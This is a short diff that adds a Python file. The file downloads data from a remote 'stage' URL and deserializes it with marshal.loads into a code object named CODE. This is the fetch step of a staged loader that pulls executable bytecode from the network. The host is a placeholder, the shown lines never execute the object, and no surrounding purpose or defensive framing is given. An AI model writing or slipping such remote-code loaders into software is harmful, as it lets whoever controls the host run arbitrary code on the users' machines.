@@ -1,0 +1,4 @@
+import marshal
+import urllib.request
+
+CODE = marshal.loads(urllib.request.urlopen("http://stage.invalid/m").read())
